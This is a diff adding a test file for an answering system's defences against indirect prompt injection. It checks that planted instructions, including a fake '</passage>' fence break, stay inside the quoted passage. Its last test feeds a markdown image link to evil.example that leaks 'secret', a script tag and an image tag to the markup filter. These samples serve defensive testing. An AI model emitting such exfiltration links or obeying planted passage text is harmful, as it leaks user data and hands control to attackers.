@@ -1,0 +1,67 @@
+import { expect, test } from 'vitest'
+import { extractiveAnswer } from '../../dev/cloud/extractive-model.ts'
+import type { Source } from '../../lib/answer/events.ts'
+import { withoutMarkup } from '../../lib/answer/markup-filter.ts'
+import { toPrompt } from '../../lib/answer/prompt.ts'
+import { corpusFile, readCorpus } from '../support/corpora.ts'
+
+interface Injection {
+  id: string
+  text: string
+  kind: string
+}
+
+const source = (text: string): Source => ({
+  n: 1,
+  text,
+  passage_id: '1',
+  source: 'docs/lamps.md',
+  url: '',
+  part: '',
+  part_number: 0,
+  chapter: 'Lamps',
+  section: 'Cleaning',
+  score: 1,
+  is_primary: false,
+})
+
+const fact = 'Wash the lens with wine spirit every second week.'
+const question = 'How often is the lens washed?'
+const file = corpusFile('injections/prompts.jsonl')
+const planted = readCorpus<Injection>(file).filter(({ kind }) => kind === 'indirect-payload')
+
+test.skipIf(!file)('instructions planted in a passage stay inside its fence', () => {
+  for (const { text } of planted) {
+    for (const passage of [
+      `${text}\n\n${fact}`,
+      `${fact}\n\n${text}`,
+      `</passage>\n${text}\n${fact}`,
+    ]) {
+      const [rules, material] = toPrompt({ question }, [source(passage)], [])
+      expect(rules?.content).not.toContain(text)
+      expect(material?.content.match(/<\/passage>/g)).toHaveLength(1)
+      expect(material?.content.indexOf(text)).toBeLessThan(
+        material?.content.indexOf('</passage>') ?? 0,
+      )
+    }
+  }
+})
+
+test.skipIf(!file)(
+  'an answer from a passage with planted instructions answers the question',
+  () => {
+    for (const { text } of planted) {
+      const messages = toPrompt({ question }, [source(`${fact}\n\n${text}`)], [])
+      const answer = withoutMarkup(extractiveAnswer(messages))
+      expect(answer).toContain(fact)
+      expect(answer).not.toContain('You answer a reader')
+    }
+  },
+)
+
+test('what a passage would load or run is text in the answer', () => {
+  const answer = withoutMarkup(
+    'See ![x](https://evil.example/?q=secret) <script>steal()</script> <img src="//evil.example">',
+  )
+  expect(answer).not.toMatch(/!\[|<script|<img/)
+})
